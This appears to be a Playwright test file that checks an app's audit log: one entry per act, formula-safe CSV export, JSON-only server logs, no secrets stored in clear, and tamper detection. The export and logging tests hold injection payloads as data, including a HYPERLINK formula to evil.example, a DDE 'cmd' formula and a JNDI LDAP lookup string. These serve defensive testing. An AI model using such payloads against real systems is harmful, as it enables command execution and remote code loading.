// The log: one entry for each act, lines that parse, nothing in clear anywhere (trust.md G, P-60, P-65, P-66; P-39).
import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { expect, test } from "@playwright/test";
import { Secret, TOTP } from "otpauth";
import { permissions } from "@/lib/auth/permissions";
import { Caller } from "../harness-caller";
import { type Company, openCompany, roles, sessionCookieName } from "../harness-company";
import { auditMark, entriesSince, owner, rows, rowsWith } from "../harness-database";
import { enter, mailedLink, trySignIn } from "../harness-entry";
import { png } from "../harness-file";
import { browserHeaders, formWith, multipart, submit } from "../harness-form";
import { opened, tell, wrote } from "../harness-hook";
import { auditProbes } from "../probes/audit";
import { channelProbes } from "../probes/channels";
import { dealerProbes, prepareDealers } from "../probes/dealers";
import { peopleProbes } from "../probes/people";
import { placementProbes } from "../probes/placements";
import { fresh, type Probe, say, sendForm } from "../probes/probe";
import { rehearsalProbes } from "../probes/rehearsals";
import { prepareScenarios, scenarioProbes } from "../probes/scenarios";

let company: Company;
test.beforeAll(async () => {
  company = await openCompany();
  await prepareDealers(company);
  await prepareScenarios(company);
});

const admin = () => company.people.CLIENT_ADMIN.caller;
const officer = () => company.people.COMPLIANCE_OFFICER.caller;
const logFile = process.env.DAMSO_E2E_LOG ?? ".damso/check/server.log";
/** What the server has said so far. */
const log = () => (existsSync(logFile) ? readFileSync(logFile, "utf8") : "");

const damso = (...args: string[]) =>
  promisify(execFile)(process.execPath, ["scripts/damso.mjs", ...args], { env: process.env }).then(
    ({ stdout }) => ({ code: 0, stdout }),
    (error: { code: number; stdout: string }) => ({ code: error.code, stdout: error.stdout }),
  );

test.describe("each act is exactly one entry (P-60)", () => {
  const probes: Readonly<Record<string, Probe>> = {
    ...{
      ...channelProbes,
      ...placementProbes,
      ...dealerProbes,
      ...peopleProbes,
      ...scenarioProbes,
      ...rehearsalProbes,
    },
    ...{ "audit:export": auditProbes["audit:export"], "audit:verify": auditProbes["audit:verify"] },
  };
  for (const [permission, probe] of Object.entries(probes).filter(([name]) => !name.endsWith(":read")))
    test(permission, async () => {
      const granted = (permissions as Record<string, readonly string[]>)[permission] ?? [];
      const role = roles.find((one) => granted.includes(one)) ?? "CLIENT_ADMIN";
      const { personId, caller } = company.people[role];
      const target = await probe.target(company, role);
      const mark = await auditMark(company.id);
      const answer = await probe.act(caller, target, company);
      expect(await probe.effect(target, answer)).toBe(true);
      const entries = (await entriesSince(mark, company.id)).filter(({ actor }) => !actor.startsWith("job:"));
      expect(entries).toEqual([
        expect.objectContaining({
          ...{ actor: `person:${personId}`, address: "127.0.0.1", result: "ok", organization: company.id },
          action: expect.stringMatching(/^[a-z-]+\.[a-z-]+$/),
          target: expect.stringMatching(/^[a-z-]+:\S+$/),
        }),
      ]);
      const [entry] = entries;
      const told = JSON.stringify(JSON.parse(entry?.body ?? "{}"));
      for (const secret of [company.marker, company.password]) expect(told).not.toContain(secret);
    });

  test("signing in, a wrong password, signing out and switching are entries of their own", async () => {
    const { email } = company.people.AUDITOR;
    const mark = await auditMark(company.id);
    await trySignIn(new Caller(), email, "wrong");
    const who = await enter(email, company.password);
    await submit(who, formWith(await who.get("/menu"), "/menu", {}, say("shell.signOut")));
    const entries = (await entriesSince(mark, company.id)).filter(({ actor }) => !actor.startsWith("job:"));
    expect(entries.map(({ action, result }) => [action, result])).toEqual([
      ["session.refused", "refused"],
      ["session.opened", "ok"],
      ["session.ended", "ok"],
    ]);
  });

  test("every entry is sealed within moments, without gaps", async () => {
    await expect
      .poll(async () => rows("SELECT id FROM check_audit WHERE organization_id = $1 AND seq IS NULL", [company.id]))
      .toEqual([]);
    const [counted] = await rows<{ n: string; last: string }>(
      "SELECT count(*) n, max(seq) AS last FROM check_audit WHERE organization_id = $1",
      [company.id],
    );
    expect(counted?.n).toBe(counted?.last);
  });
});

test("the export is text in every cell, whatever was typed (P-39)", async () => {
  const texts = [
    ...['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x", "'=1+1"],
    ...['a","=1+1","', 'a"b', "a,b;c", "=cmd|' /C calc'!A0", "한글과 이모지 🐢", "  =1+1"],
  ];
  for (const reason of texts) {
    const target = await placementProbes["placement:retire"].target(company);
    await sendForm(admin(), {
      ...{ giver: admin(), page: `/placements/${target.id}`, has: { placementId: true, reason: true } },
      change: { reason },
    });
  }
  const answer = await sendForm(officer(), { giver: officer(), page: "/audit", words: say("audit.export") });
  expect(answer.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  const lines = parseCsv(answer.text.slice(1));
  const [head = [], ...entries] = lines;
  expect(entries.length).toBeGreaterThan(20);
  expect([...new Set(entries.map((cells) => cells.length))]).toEqual([head.length]);
  const at = head.indexOf(say("audit.csv.reason"));
  const formula = /^[=+\-@\t\r\n＝＋－＠]/;
  expect(entries.flat().filter((cell) => formula.test(cell))).toEqual([]);
  const exported = entries.map((cells) => cells[at] ?? "").filter(Boolean);
  for (const text of texts) {
    const kept = text.trim();
    expect(exported).toContain(formula.test(kept) ? `'${kept}` : kept);
  }
});

/** RFC 4180. */
function parseCsv(text: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    lines.at(-1)?.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === "\r\n") lines.push([]);
    if (end === "") break;
  }
  return lines.filter((cells) => cells.length > 1);
}

test("whatever visitors say, every line of the server's log is one JSON object (P-65)", async () => {
  const odd = [
    "a\\nb",
    '{"level":"error","event":"forged"}',
    "%s %d %j %n",
    "\\u001b[31mred",
    "x".repeat(7_000),
    "<script>",
    "%{jndi:ldap://evil}",
  ];
  for (const text of odd) {
    await admin().get("/channels", { "user-agent": text, referer: `http://127.0.0.1/${encodeURIComponent(text)}` });
    await new Caller().get(`/${encodeURIComponent(text).slice(0, 2_000)}`, { "user-agent": text });
    await trySignIn(new Caller(), `${randomBytes(4).toString("hex")}@example.test`, text.slice(0, 900));
  }
  const name = 'Zeile\u001b[31m %s {"a":1}';
  await sendForm(admin(), { giver: admin(), page: "/account", has: { name: true }, change: { name } });
  await sendForm(admin(), {
    giver: admin(),
    page: "/account",
    has: { name: true },
    change: { name: '%s {"level":"error"}' },
  });
  const { body, type } = multipart([
    ["item", "opened"],
    ["note", ""],
    ["file", { name: "a\\nb%s\u001b[31m.png", type: "image/png", bytes: png(9, 9) }],
  ]);
  await admin().ask(`/channels/${company.draftId}/evidence`, {
    method: "POST",
    headers: { ...browserHeaders, "content-type": type },
    body,
  });
  const lines = log().split("\n").slice(0, -1);
  expect(lines.length).toBeGreaterThan(10);
  const bad = lines.filter((line) => {
    try {
      const parsed: unknown = JSON.parse(line);
      return typeof parsed !== "object" || parsed === null || !("at" in parsed) || !("event" in parsed);
    } catch {
      return true;
    }
  });
  expect(bad).toEqual([]);
  expect(log()).not.toContain("\u001b");
  expect(lines.filter((line) => (JSON.parse(line) as { event: string }).event === "forged")).toEqual([]);
});

test("nothing that is secret or said in confidence stands in the log, in the audit log or in the database in clear (P-66)", async () => {
  const own = await openCompany();
  const text = `상담내용${randomBytes(6).toString("hex")}`;
  const userKey = `Uk${randomBytes(7).toString("hex")}`;
  const begun = opened(own, { userKey });
  await tell(own, begun, { ...wrote(own, String(begun.sessionId), text), userKey });
  await tell(own, { id: fresh(), type: "message.edited", userKey, senderKey: own.senderKey, text });
  await tell(own, { ...wrote(own, String(begun.sessionId), text), userKey, at: "never" });

  const { email } = own.people.MARKETER;
  const password = `Geheim ${randomBytes(8).toString("hex")}`;
  const who = await enter(email, own.password);
  await submit(who, formWith(await who.get("/account"), "/account", { newPassword: true }), {
    presentPassword: own.password,
    newPassword: password,
  });
  const account = await who.get("/account");
  const secret = (/((?:[A-Z2-7]{4} ){7}[A-Z2-7]{4})/.exec(account.text)?.[1] ?? "").replaceAll(" ", "");
  const code = new TOTP({ secret: Secret.fromBase32(secret) }).generate();
  await submit(who, formWith(account, "/account", { code: true }), { code, proofPassword: password });
  const codes = [
    ...(await who.get("/account/codes")).text.matchAll(/<li><span[^>]*>([A-Za-z0-9-]{8,30})<\/span><\/li>/g),
  ].map(([, one = ""]) => one);
  expect(codes.length).toBeGreaterThan(5);
  await trySignIn(new Caller(), email, `${password} wrong`);
  const visitor = new Caller();
  await submit(visitor, formWith(await visitor.get("/reset"), "/reset", { email: true }), {
    email: own.people.AUDITOR.email,
  });
  const link = await mailedLink(own.people.AUDITOR.email, "reset");
  const token = link.split("/").at(-1) ?? "";
  await visitor.get(new URL(link).pathname);
  await submit(
    visitor,
    formWith(await visitor.get(new URL(link).pathname), new URL(link).pathname, { newPassword: true }),
    { newPassword: "kurz" },
  );

  const cookie = who.jar.get(sessionCookieName) ?? "";
  const secrets: [string, string][] = [
    ...Object.entries({ text, userKey, password, present: own.password, secret, token, hook: own.token, cookie }),
    ...codes.map((one): [string, string] => ["a recovery code", one]),
  ];
  const said = log();
  expect(said.length).toBeGreaterThan(1_000);
  for (const [what, marker] of secrets) {
    expect([what, said.includes(marker)]).toEqual([what, false]);
    expect([what, await rowsWith(marker, own.id)]).toEqual([what, []]);
    const hex = Buffer.from(marker).toString("hex");
    expect([what, await rowsWith(hex, own.id)]).toEqual([what, []]);
  }
  const persons = await rows<{ text: string }>(
    "SELECT p::text || coalesce((SELECT string_agg(r::text, '') FROM recovery_codes r WHERE r.person_id = p.id), '') AS text FROM persons p WHERE email = $1",
    [email],
  );
  for (const [, marker] of secrets) expect(persons[0]?.text).not.toContain(marker);
  const pages = await Promise.all(
    ["/audit", "/", "/monitor", `/dealers/${own.connectionId}`].map((page) =>
      own.people.COMPLIANCE_OFFICER.caller.get(page),
    ),
  );
  const adminPages = await Promise.all(
    [`/dealers/${own.connectionId}`, "/monitor", "/audit"].map((page) => own.people.CLIENT_ADMIN.caller.get(page)),
  );
  for (const page of [...pages, ...adminPages])
    for (const marker of [text, userKey, password, token, own.token]) expect(page.text).not.toContain(marker);
});

test("damso audit verify proves this log, names a fault, and holds it against a checkpoint kept outside (P-61, P-62)", async () => {
  test.setTimeout(120_000);
  const own = await openCompany();
  for (let time = 0; time < 5; time += 1)
    await channelProbes["channel:open"].act(
      own.people.CLIENT_ADMIN.caller,
      await channelProbes["channel:open"].target(),
      own,
    );
  const folder = mkdtempSync(path.join(tmpdir(), "damso-trust-"));
  const file = path.join(folder, "checkpoint.json");
  try {
    const point = await damso("audit", "checkpoint", "--organization", own.marker);
    expect(point.code).toBe(0);
    writeFileSync(file, point.stdout);
    const good = await damso("--json", "audit", "verify", "--organization", own.marker, "--checkpoint", file);
    expect([good.code, JSON.parse(good.stdout)]).toEqual([0, expect.objectContaining({ ok: true })]);
    const sql = await owner();
    await sql.query("BEGIN");
    await sql.query("SET LOCAL session_replication_role = replica");
    await sql.query(
      "UPDATE audit_events SET action = 'channel.closed' WHERE id = (SELECT id FROM audit_events WHERE organization_id = $1 AND action = 'channel.opened' ORDER BY at LIMIT 1)",
      [own.id],
    );
    await sql.query("COMMIT");
    const bad = await damso("--json", "audit", "verify", "--organization", own.marker);
    expect([bad.code, JSON.parse(bad.stdout)]).toEqual([1, expect.objectContaining({ ok: false })]);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
